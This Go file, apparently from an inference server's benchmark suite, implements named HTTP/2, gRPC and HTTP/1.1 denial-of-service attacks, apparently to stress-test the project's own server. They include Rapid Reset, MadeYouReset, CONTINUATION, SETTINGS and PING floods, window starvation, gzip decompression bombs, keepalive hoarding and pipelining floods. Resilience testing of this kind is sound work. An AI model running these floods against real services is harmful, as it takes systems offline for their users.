package hostile

import (
	"bytes"
	"compress/gzip"
	"context"
	"encoding/binary"
	"errors"
	"fmt"
	"io"
	"maps"
	"net"
	"slices"
	"sync"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
	"google.golang.org/protobuf/proto"

	"github.com/shivad/shivad/bench/load"
	"github.com/shivad/shivad/server/grpc/pb"
)

// A trick is a use of HTTP that the protocol allows, and that costs a server more than its client.
type trick struct {
	clients int
	holds   bool // send returns, and the connection is held
	// send writes until the server closes the connection. If it returns nil, the connection is held
	// until then. message is a request to a model, framed for gRPC.
	send func(c net.Conn, message []byte) error
}

// tricks by name: at the gRPC door, except bombs, keepalive and pipelined, which are at the HTTP
// door.
var tricks = map[string]trick{
	// Bodies of a few kilobytes that unpack to 250 MB in all and do not end, twice a second.
	"bombs": {bombs, false, func(c net.Conn, _ []byte) error {
		_, err := c.Write(bomb())
		time.Sleep(time.Second / 2)
		return errors.Join(err, net.ErrClosed)
	}},
	// Calls that are cancelled at once, as fast as they can be written.
	"resets": {8, false, func(c net.Conn, message []byte) error {
		return each(c, message, func(w *writer, stream uint32) {
			_ = w.frames.WriteRSTStream(stream, http2.ErrCodeCancel)
		})
	}},
	// Calls that the server is made to reset (MadeYouReset), by a window update of 0.
	"madeyoureset": {8, false, func(c net.Conn, message []byte) error {
		return each(c, message, func(w *writer, stream uint32) {
			_ = w.frames.WriteRawFrame(http2.FrameWindowUpdate, 0, stream, make([]byte, 4))
		})
	}},
	// The same, by data after the call's end.
	"afterend": {8, false, func(c net.Conn, message []byte) error {
		return each(c, message, func(w *writer, stream uint32) { _ = w.frames.WriteData(stream, true, message) })
	}},
	// Calls whose deadline is over before they can be answered.
	"deadlines": {8, false, func(c net.Conn, message []byte) error {
		w, stream := newWriter(c), uint32(1)
		return flood(w, func() {
			w.call(stream, message, hpack.HeaderField{Name: "grpc-timeout", Value: "100u"})
			stream += 2
		})
	}},
	// Four calls that are cancelled at once with each that has an answer.
	"hedges": {8, false, func(c net.Conn, message []byte) error {
		return each(c, message, func(w *writer, stream uint32) {
			if stream/2%5 != 0 {
				_ = w.frames.WriteRSTStream(stream, http2.ErrCodeCancel)
			}
		})
	}},
	// Settings, each of which concerns as many calls as a connection may have.
	"settings": {8, false, func(c net.Conn, message []byte) error {
		w := withoutWindow(c, message)
		var many []http2.Setting
		for i := range uint32(2700) {
			many = append(many, http2.Setting{ID: http2.SettingInitialWindowSize, Val: i % 2})
		}
		return flood(w, func() { _ = w.frames.WriteSettings(many...) })
	}},
	// Priorities, which this server does not have.
	"priorities": {8, false, func(c net.Conn, _ []byte) error {
		w := newWriter(c)
		return flood(w, func() { _ = w.frames.WritePriority(1, http2.PriorityParam{StreamDep: 3}) })
	}},
	// Window updates of one byte.
	"updates": {8, false, func(c net.Conn, message []byte) error {
		w := newWriter(c, http2.Setting{ID: http2.SettingInitialWindowSize})
		w.call(1, message)
		return flood(w, func() { _ = w.frames.WriteWindowUpdate(1, 1) })
	}},
	// Data frames without data.
	"empties": {8, false, func(c net.Conn, message []byte) error {
		w := newWriter(c)
		w.begin(1)
		return flood(w, func() { _ = w.frames.WriteData(1, false, nil) })
	}},
	// As many calls as a connection may have, with no window for their answers.
	"windows": {20, true, func(c net.Conn, message []byte) error {
		return withoutWindow(c, message).flush()
	}},
	// Headers that do not end.
	"continuations": {8, false, func(c net.Conn, _ []byte) error {
		w := newWriter(c)
		_ = w.frames.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: w.headers(load.GRPCHeaders...)})
		return flood(w, func() {
			_ = w.frames.WriteContinuation(1, false, w.headers(hpack.HeaderField{Name: "x-more", Value: "of it"}))
		})
	}},
	// PINGs, each of which must be answered.
	"pings": {8, false, func(c net.Conn, _ []byte) error {
		w := newWriter(c)
		return flood(w, func() { _ = w.frames.WritePing(false, [8]byte{1}) })
	}},
	// Connections that have had an answer and stay open: as many as a server accepts that may open
	// 20,000 files.
	"keepalive": {2400, true, func(c net.Conn, _ []byte) error {
		_, err := c.Write(live)
		return err
	}},
	// 10,000 requests before the first answer, repeatedly.
	"pipelined": {1, false, func(c net.Conn, _ []byte) error {
		many := bytes.Repeat(live, 10_000)
		for {
			if _, err := c.Write(many); err != nil {
				return err
			}
		}
	}},
}

const bombs = 24

// bomb is a request whose body, packed by gzip, does not end.
var bomb = sync.OnceValue(func() []byte {
	var body bytes.Buffer
	w := gzip.NewWriter(&body) // memory takes everything
	_, _ = w.Write(bytes.Repeat([]byte(" "), 250_000_000/bombs))
	_ = w.Flush()
	return fmt.Appendf(nil, "POST /v2/models/small/infer HTTP/1.1\r\nHost: x\r\nContent-Encoding: gzip\r\nTransfer-Encoding: chunked\r\n\r\n%x\r\n%s\r\n",
		body.Len(), body.Bytes())
})

var live = []byte("GET /v2/health/live HTTP/1.1\r\nHost: x\r\n\r\n")

// Trick runs the clients of a trick against the door at an address until ctx ends. A client whose
// connection is closed connects again. Trick calls ready once, when each client has connected, and
// has sent everything if it holds its connection.
func Trick(ctx context.Context, name string, from *Sources, addr, model string, ready func()) error {
	t, ok := tricks[name]
	if !ok {
		return fmt.Errorf("hostile: %q is no trick; they are %q", name, slices.Sorted(maps.Keys(tricks)))
	}
	ask, err := proto.Marshal(&pb.ModelInferRequest{
		ModelName: model,
		Inputs: []*pb.ModelInferRequest_InferInputTensor{
			{Name: "x", Datatype: "FP32", Shape: []int64{1, 16}}},
		RawInputContents: [][]byte{make([]byte, 16*4)},
	})
	if err != nil {
		return err
	}
	message := append(binary.BigEndian.AppendUint32([]byte{0}, uint32(len(ask))), ask...)
	var clients, met sync.WaitGroup
	met.Add(t.clients)
	for range t.clients {
		clients.Go(func() {
			first := sync.OnceFunc(met.Done)
			defer first()
			for ctx.Err() == nil {
				t.play(ctx, from, addr, message, first)
			}
		})
	}
	met.Wait()
	ready()
	clients.Wait()
	return nil
}

// play runs one connection until the server closes it or ctx ends. It calls met once connected.
func (t *trick) play(ctx context.Context, from *Sources, addr string, message []byte, met func()) {
	c, err := from.Dial(ctx, addr)
	if err != nil {
		select {
		case <-ctx.Done():
		case <-time.After(10 * time.Millisecond):
		}
		return
	}
	defer c.Close()
	defer context.AfterFunc(ctx, func() { c.Close() })()
	var reading sync.WaitGroup
	reading.Go(func() {
		_, _ = io.Copy(io.Discard, c) // the server disconnects a client that does not read
		c.Close()
	})
	if !t.holds {
		met()
	}
	if t.send(c, message) != nil {
		c.Close()
	}
	met()
	reading.Wait()
}

// A writer writes frames of HTTP/2.
type writer struct {
	conn       net.Conn
	out, block bytes.Buffer
	frames     *http2.Framer
	fields     *hpack.Encoder
}

// newWriter begins a connection. Writes go to memory, and do not fail.
func newWriter(c net.Conn, settings ...http2.Setting) *writer {
	w := &writer{conn: c}
	w.out.WriteString(http2.ClientPreface)
	w.frames, w.fields = http2.NewFramer(&w.out, nil), hpack.NewEncoder(&w.block)
	_ = w.frames.WriteSettings(settings...)
	return w
}

// headers encodes fields, valid until the next call.
func (w *writer) headers(fields ...hpack.HeaderField) []byte {
	w.block.Reset()
	for _, f := range fields {
		_ = w.fields.WriteField(f)
	}
	return w.block.Bytes()
}

// begin writes the headers of a gRPC call.
func (w *writer) begin(stream uint32, more ...hpack.HeaderField) {
	fields := slices.Concat(load.GRPCHeaders, more)
	_ = w.frames.WriteHeaders(http2.HeadersFrameParam{StreamID: stream, BlockFragment: w.headers(fields...),
		EndHeaders: true})
}

// call writes a gRPC call.
func (w *writer) call(stream uint32, message []byte, more ...hpack.HeaderField) {
	w.begin(stream, more...)
	_ = w.frames.WriteData(stream, true, message)
}

// withoutWindow begins a connection with as many calls as it may have, and no window for answers.
func withoutWindow(c net.Conn, message []byte) *writer {
	w := newWriter(c, http2.Setting{ID: http2.SettingInitialWindowSize})
	for i := range uint32(250) {
		w.call(2*i+1, message)
	}
	return w
}

// each makes calls, as fast as they can be written, with something else after each.
func each(c net.Conn, message []byte, then func(w *writer, stream uint32)) error {
	w, stream := newWriter(c), uint32(1)
	w.frames.AllowIllegalWrites = true
	return flood(w, func() {
		w.call(stream, message)
		then(w, stream)
		stream += 2
	})
}

// flood writes the same again and again, as fast as it can be written.
func flood(w *writer, write func()) error {
	for {
		for w.out.Len() < 16<<10 {
			write()
		}
		if err := w.flush(); err != nil {
			return err
		}
	}
}

// flush sends everything written so far.
func (w *writer) flush() error {
	_, err := w.conn.Write(w.out.Bytes())
	w.out.Reset()
	return err
}
